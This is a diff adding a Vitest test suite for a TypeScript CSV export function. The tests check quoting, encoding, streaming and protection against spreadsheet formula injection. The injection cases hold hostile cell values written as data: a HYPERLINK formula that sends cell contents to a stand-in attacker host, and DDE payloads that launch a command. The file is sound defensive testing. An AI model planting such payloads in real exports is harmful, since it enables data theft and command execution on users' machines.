@@ -1,0 +1,119 @@
+import { Readable } from 'node:stream';
+import { text } from 'node:stream/consumers';
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { type CsvCell, toCsv } from './csv.ts';
+
+const fileOf = (...cells: CsvCell[]) => text(toCsv(cells, [{ header: 'cell', cell: (cell) => cell }]));
+/** The cells as an independent parser reads them. */
+const readBack = async (...cells: CsvCell[]): Promise<string[]> =>
+  parse(await fileOf(...cells), { bom: true }).map(([cell = '']: string[]) => cell);
+
+describe('toCsv', () => {
+  test('writes a byte order mark, headings and lines that end in CRLF', async () => {
+    const columns = [
+      { header: 'id', cell: ({ id }: { id: string; votes: number }) => id },
+      { header: 'votes', cell: ({ votes }: { votes: number }) => votes },
+    ];
+    expect(await text(toCsv([{ id: 'a', votes: 2 }], columns))).toBe('\uFEFFid,votes\r\na,2\r\n');
+    expect(await text(toCsv([], columns))).toBe('\uFEFFid,votes\r\n');
+  });
+
+  test.each([
+    'plain',
+    'a "quoted" word',
+    '"',
+    'one, two',
+    'one; two',
+    'two\nlines',
+    'two\r\nlines',
+    'an old\rMac',
+    ' spaces around ',
+    'مرحبا بالعالم',
+    '日本語 👩‍👩‍👧',
+    'tab\tinside',
+    '\uFEFFmark',
+    '',
+  ])('keeps %j', async (cell) => {
+    expect(await readBack(cell, 'next')).toEqual(['cell', cell, 'next']);
+  });
+
+  test.each([
+    '=1+1',
+    '=HYPERLINK("https://evil.example?"&A1,"Prize")',
+    "+cmd|' /C calc'!A0",
+    '-1+1',
+    "-2+3+cmd|' /C calc'!A0",
+    '- milk',
+    '@SUM(1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '\0=1+1',
+    '＝1+1',
+    '+47 22 33 44 55',
+  ])('puts an apostrophe before %j', async (cell) => {
+    expect(await readBack(cell)).toEqual(['cell', `'${cell}`]);
+  });
+
+  test('keeps numbers, amounts and dates', async () => {
+    const time = new Date('2026-11-27T18:05:09.700Z');
+    expect(await readBack(-12, 0.5, '-12.50', '+5', '19.00', 10n, true, time, '2026-11-27')).toEqual([
+      'cell',
+      '-12',
+      '0.5',
+      '-12.50',
+      '+5',
+      '19.00',
+      '10',
+      'true',
+      '2026-11-27 18:05:09',
+      '2026-11-27',
+    ]);
+  });
+
+  test('leaves cells without a value empty', async () => {
+    expect(await fileOf(null, undefined, '', new Date(Number.NaN))).toBe('\uFEFFcell\r\n\r\n\r\n\r\n\r\n');
+  });
+
+  test('is read back as it was, apart from the apostrophe', async () => {
+    const cell = fc
+      .string({ unit: 'binary', minLength: 1, maxLength: 40 })
+      .map((given) => given.replace(/\p{Cs}/gu, '?'));
+    await fc.assert(
+      fc.asyncProperty(fc.array(cell, { maxLength: 20 }), async (cells) => {
+        const read = (await readBack(...cells)).slice(1);
+        expect(read.map((given, at) => (given === cells[at] ? given : given.replace(/^'/, '')))).toEqual(cells);
+        for (const given of read) expect(given).not.toMatch(/^[=@＝\t\r\n]|^[-+](?!\d+(\.\d+)?$)/);
+      }),
+    );
+  });
+
+  test('reads rows as they are taken, and stops with the reader', async () => {
+    let read = 0;
+    async function* rows() {
+      try {
+        for (;;) {
+          read += 1;
+          yield read;
+        }
+      } finally {
+        read = -1;
+      }
+    }
+    for await (const chunk of toCsv(rows(), [{ header: 'n', cell: (n) => n }])) {
+      expect(chunk.length).toBeLessThan(20_000);
+      break;
+    }
+    expect(read).toBe(-1);
+  });
+
+  test('passes an error of the rows on', async () => {
+    const rows = Readable.from(['a', 'b']).map((row) => {
+      if (row === 'b') throw new Error('lost');
+      return row;
+    });
+    await expect(text(toCsv<string>(rows, [{ header: 'a', cell: (row) => row }]))).rejects.toThrow('lost');
+  });
+});
